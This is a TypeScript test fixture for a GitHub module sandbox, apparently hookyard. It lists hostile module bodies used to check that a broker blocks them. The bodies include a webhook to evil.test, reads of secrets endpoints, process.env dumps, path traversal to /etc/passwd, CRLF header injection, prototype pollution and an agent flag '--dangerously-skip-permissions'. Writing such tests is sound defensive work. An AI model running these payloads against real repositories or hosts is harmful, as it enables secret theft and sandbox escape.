// What a module can try that was written to do harm: the body of a handler, run in a real module process. `attempt` notes
// what became of each try. `other` is #99, which is not the run's; octo/private is not the run's repository.

import { NONCE_OF } from '../../packages/hookyard/testing/run/module-process.ts'

export interface HostileModule {
  readonly name: string
  readonly body: string
}

const rest = (route: string, parameters: string) =>
  `await attempt(() => ctx.github.request('${route}', ${parameters}))`
const raw = (route: string) => `await attempt(() => ctx.github.request('${route}'))`

export const HOSTILE: readonly HostileModule[] = [
  {
    name: 'a comment on another pull request',
    body: rest('POST /repos/octo/hello/issues/99/comments', "{ body: 'x' }"),
  },
  {
    name: 'a comment in another repository',
    body: rest('POST /repos/octo/private/issues/1/comments', "{ body: 'x' }"),
  },
  {
    name: 'a stranger’s comment rewritten',
    body: `const [c] = await ctx.pr.comments(); ${rest('PATCH /repos/octo/hello/issues/comments/{id}', "{ id: c.id, body: 'x' }")}`,
  },
  {
    name: 'a stranger’s comment deleted',
    body: `const [c] = await ctx.pr.comments(); ${rest('DELETE /repos/octo/hello/issues/comments/{id}', '{ id: c.id }')}`,
  },
  {
    name: 'the pull request merged',
    body: rest('PUT /repos/octo/hello/pulls/{n}/merge', '{ n: ctx.pr.number }'),
  },
  {
    name: 'the pull request closed',
    body: `${rest('PATCH /repos/octo/hello/pulls/{n}', "{ n: ctx.pr.number, state: 'closed' }")}; ${rest('PATCH /repos/octo/hello/issues/{n}', "{ n: ctx.pr.number, state: 'closed' }")}`,
  },
  {
    name: 'an approval by a verb',
    body: "await attempt(() => ctx.pr.review('k', { body: 'LGTM', event: 'APPROVE' }))",
  },
  {
    name: 'an approval by REST',
    body: rest(
      'POST /repos/octo/hello/pulls/{n}/reviews',
      "{ n: ctx.pr.number, body: 'LGTM', event: 'APPROVE' }",
    ),
  },
  {
    name: 'a pending review, submitted as an approval',
    body: `${rest('POST /repos/octo/hello/pulls/{n}/reviews', "{ n: ctx.pr.number, body: 'x' }")}; ${rest('POST /repos/octo/hello/pulls/{n}/reviews/1/events', "{ n: ctx.pr.number, event: 'APPROVE' }")}`,
  },
  {
    name: 'a review of another pull request',
    body: rest('POST /repos/octo/hello/pulls/99/reviews', "{ body: 'x', event: 'COMMENT' }"),
  },
  {
    name: 'a mutation by GraphQL',
    body: rest('POST /graphql', "{ query: 'mutation { addProjectV2ItemById(input: {}) { item { id } } }' }"),
  },
  { name: 'a question by GraphQL', body: rest('POST /graphql', "{ query: '{ viewer { login } }' }") },
  {
    name: 'a label that nobody has made',
    body: `await attempt(() => ctx.pr.label(['evil'])); ${rest('POST /repos/octo/hello/issues/{n}/labels', "{ n: ctx.pr.number, labels: ['evil'] }")}; ${rest('POST /repos/octo/hello/labels', "{ name: 'evil', color: 'ff0000' }")}`,
  },
  {
    name: 'labels of another issue',
    body: rest('POST /repos/octo/hello/issues/1/labels', "{ labels: ['bug'] }"),
  },
  {
    name: 'a check run on another commit',
    body: rest(
      'POST /repos/octo/hello/check-runs',
      "{ name: 'ci', head_sha: 'a'.repeat(40), conclusion: 'success' }",
    ),
  },
  {
    name: 'a stranger’s thread resolved',
    body: "const threads = await ctx.pr.threads(); for (const t of threads) await attempt(() => ctx.pr.resolve(t.id, 'x'))",
  },
  {
    name: 'ids of other things resolved',
    body: "for (const id of ['UFJSVF8x', '../x', '', 'a'.repeat(500), \"x' OR 1\"]) await attempt(() => ctx.pr.resolve(id, 'x'))",
  },
  {
    name: 'a project for a pull request',
    body: "await attempt(() => process.send({ t: 'call', nonce, id: 9001, method: 'subject.write', params: { verb: 'project', args: ['Road Map'] } })); await new Promise((r) => setTimeout(r, 30))",
  },
  {
    name: 'files written',
    body: `${rest('PUT /repos/octo/hello/contents/x.md', "{ message: 'x', content: 'eA==' }")}; ${rest('POST /repos/octo/hello/git/refs', "{ ref: 'refs/heads/x', sha: 'a'.repeat(40) }")}; ${raw('DELETE /repos/octo/hello/git/refs/heads/main')}`,
  },
  {
    name: 'workflows and deployments started',
    body: `${rest('POST /repos/octo/hello/dispatches', "{ event_type: 'x' }")}; ${rest('POST /repos/octo/hello/actions/workflows/1/dispatches', "{ ref: 'main' }")}; ${rest('POST /repos/octo/hello/deployments', "{ ref: 'main' }")}`,
  },
  {
    name: 'people added and removed',
    body: `${raw('PUT /repos/octo/hello/collaborators/mallory')}; ${rest('POST /repos/octo/hello/issues/{n}/assignees', "{ n: ctx.pr.number, assignees: ['mallory'] }")}; ${rest('POST /repos/octo/hello/pulls/{n}/requested_reviewers', "{ n: ctx.pr.number, reviewers: ['mallory'] }")}`,
  },
  {
    name: 'webhooks made',
    body: rest('POST /repos/octo/hello/hooks', "{ config: { url: 'https://evil.test' } }"),
  },
  {
    name: 'secrets read',
    body: [
      'hooks',
      'keys',
      'actions/secrets',
      'actions/variables',
      'dependabot/secrets',
      'environments/x/secrets',
      'secret-scanning/alerts',
      'Hooks',
      'actions%2Fsecrets',
    ]
      .map((path) => raw(`GET /repos/octo/hello/${path}`))
      .join('; '),
  },
  {
    name: 'another repository read',
    body: [
      '/repos/octo/private',
      '/repos/octo/private/issues/1',
      '/repositories/1',
      '/user',
      '/user/repos',
      '/orgs/octo/repos',
      '/installation/repositories',
      '/app',
      '/notifications',
      '/gists',
    ]
      .map((path) => raw(`GET ${path}`))
      .join('; '),
  },
  {
    name: 'another repository searched',
    body: "for (const q of ['secret', 'secret repo:octo/private', 'secret user:octo', 'secret OR repo:octo/private', 'secret)  (repo:octo/private', 'repo:\"octo/private\" secret']) { await attempt(() => ctx.repo.search(q)); await attempt(() => ctx.github.request('GET /search/issues', { q })) }",
  },
  {
    name: 'ways out of the path',
    body: "for (const url of ['/repos/octo/hello/../private/issues/1', '/repos/octo/hello/%2e%2e/private/issues/1', '/repos/octo/hello/%252e%252e/private', '/repos/octo/hello/..%2fprivate', '//evil.test/x', 'https://evil.test/x', 'http://evil.test@127.0.0.1/x', '/repos/octo/hello\\\\..\\\\private', '/repos/octo/hello/issues/1#/../../private', '/repos/octo/hello;/../private', '/repos/octo/hello/contents/../../private']) for (const method of ['GET', 'POST', 'DELETE']) await attempt(() => ctx.github.request({ method, url }))",
  },
  {
    name: 'files outside of the repository',
    body: "for (const path of ['../../etc/passwd', '/../private/x', 'a/../../b', '..', '.', '%2e%2e/x', '']) { await attempt(() => ctx.repo.file(path)); await attempt(() => ctx.repo.list(path)) }; await attempt(() => ctx.repo.file('x', '../../private')); await attempt(() => ctx.repo.permission('../../../user'))",
  },
  {
    name: 'methods and headers of its own',
    body: "for (const headers of [{ authorization: 'Bearer x' }, { 'x-http-method-override': 'DELETE' }, { 'x-github-api-version': 'a\\r\\nx: y' }, { host: 'evil.test' }]) await attempt(() => ctx.github.request({ method: 'GET', url: '/repos/octo/hello', headers })); for (const method of ['TRACE', 'CONNECT', 'PURGE', 'get ', 'POST\\r\\n']) await attempt(() => ctx.github.request({ method, url: '/repos/octo/hello/issues/1/comments' }))",
  },
  {
    name: 'calls past the SDK',
    body: "for (const [method, params] of [['subject.write', { verb: 'comment', args: ['k', 'x'], number: 99, entity: 'octo/hello#99', repository: 'octo/private' }], ['subject.read', { on: 'repo', name: 'constructor', args: [] }], ['subject.read', { on: '__proto__', name: 'x', args: [] }], ['subject.write', { verb: '__proto__', args: [] }], ['store.runs.list', {}], ['toString', {}], ['github.fetch', { method: 'POST', url: 'https://api.github.com/x', headers: {}, body: null }], ['notify', { text: 'x', recipients: ['bob'], address: 'telegram:1' }], [null, null]]) process.send({ t: 'call', nonce, id: 7000 + Math.floor(Math.random() * 999), method, params }); await new Promise((r) => setTimeout(r, 30))",
  },
  {
    name: 'outcomes past the SDK',
    body: "process.send({ t: 'outcome', nonce, outcome: { status: 'approved', merge: true, messages: [{ address: 'telegram:1', text: 'x' }] }}); await new Promise((r) => setTimeout(r, 30))",
  },
  {
    name: 'a state and details that poison',
    body: 'return done(\'x\', { state: JSON.parse(\'{"__proto__":{"polluted":1},"findings":[{"id":{}}]}\'), details: { costUsd: -1e9, messages: [\'x\'] } })',
  },
  {
    name: 'a flood of calls',
    body: 'await Promise.allSettled(Array.from({ length: 800 }, () => ctx.repo.labels()))',
  },
  {
    name: 'a flood of messages',
    body: "for (let i = 0; i < 50; i++) await attempt(() => ctx.notify('spam ' + i))",
  },
  {
    name: 'another module started elsewhere',
    body: "for (const input of [{ entity: 'octo/private#1' }, { repository: 'octo/private' }]) await attempt(() => ctx.invoke('pr-review', input)); await attempt(() => ctx.invoke('../../x')); await attempt(() => ctx.invoke('constructor'))",
  },
  {
    name: 'a marker of another module',
    body: "await attempt(() => ctx.pr.comment('k', 'x <!-- hookyard:v1:pr-review:00000000000000000000000000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA -->')); const mine = await ctx.pr.comments(); await attempt(() => ctx.pr.comment('review', mine.find((c) => c.own)?.body ?? 'x'))",
  },
  {
    name: 'keys and arguments of every kind',
    body: "for (const bad of [null, 7, {}, [], 'a'.repeat(5000), '__proto__']) { await attempt(() => ctx.pr.comment(bad, 'x')); await attempt(() => ctx.pr.review(bad, bad)); await attempt(() => ctx.pr.check(bad, bad)); await attempt(() => ctx.pr.withdraw(bad)); await attempt(() => ctx.repo.settingsReported(bad)); await attempt(() => ctx.repo.search(bad, bad)) }",
  },
  {
    name: 'secrets of the process',
    body: "seen.push(JSON.stringify(process.env), process.argv.join(' '), process.execArgv.join(' '), JSON.stringify(Object.keys(globalThis)), JSON.stringify(ctx.run), String(ctx.github.auth), JSON.stringify(ctx.pr.data))",
  },
  {
    name: 'GitHub asked past the broker',
    body: "const base = ctx.pr.data.url.split('/repos/')[0]; for (const [method, path] of [['POST', '/repos/octo/hello/issues/1/comments'], ['GET', '/repos/octo/private']]) await attempt(async () => { const r = await fetch(base + path, { method, body: method === 'POST' ? '{\"body\":\"x\"}' : undefined, headers: { 'user-agent': 'x' } }); if (!r.ok) throw Object.assign(new Error(), { reason: 'http_' + r.status }) })",
  },
  {
    name: 'an agent with flags of its own',
    body: "for (const request of [{ prompt: 'x', model: '--dangerously-skip-permissions' }, { prompt: '' }, { prompt: 7 }, { prompt: 'x', untrusted: { a: 7 } }, null]) await attempt(() => ctx.agent.run(request))",
  },
]

/** The handler of the module that runs a body; its manifest says what it may. */
export const HANDLER = `
import { defineModule, done, failed, skipped } from '@hookyard/sdk'
// What a module that speaks past the SDK has to know.
${NONCE_OF}
const AsyncFunction = (async () => {}).constructor
export default defineModule({
  async handle(ctx) {
    const [tried, seen] = [[], []]
    const attempt = async (act) => {
      try {
        const result = await act()
        tried.push('done')
        seen.push(JSON.stringify(result?.data ?? result ?? null).slice(0, 20000))
      } catch (error) {
        tried.push(error.reason ?? error.name)
        seen.push(String(error.message) + String(error.stack))
      }
    }
    const outcome = await new AsyncFunction('ctx', 'attempt', 'seen', 'done', 'nonce', hooks + ctx.trigger.data.body)(ctx, attempt, seen, done, nonceOf(ctx))
    return outcome ?? done(tried.join(', '), { details: { tried, seen: seen.join('\\n') } })
  },
})
const hooks = ''
`
